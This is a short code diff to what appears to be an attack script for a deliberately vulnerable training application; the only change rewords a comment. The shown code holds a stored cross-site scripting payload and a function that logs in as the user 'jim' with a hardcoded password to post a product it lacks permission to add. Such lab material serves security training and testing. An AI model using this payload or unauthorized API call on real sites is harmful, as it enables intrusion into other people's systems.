@@ -2,7 +2,7 @@ import type { Attack, Tools } from '#lab'
 
 const PAYLOAD = '<iframe src="javascript:alert(`xss`)">'
 
-/** Puts a product into the catalogue as Jim, who has no business there. */
+/** Adds a product to the catalogue as Jim, who has no permission. */
 async function addProduct({ logIn, http, settings, expect }: Tools, description: string): Promise<void> {
   const { token } = await logIn(`jim@${settings.domain}`, 'ncc-1701')
   const answer = await http.post('/api/Products', { name: 'RestXSS', description, price: 47.11 }, { token })
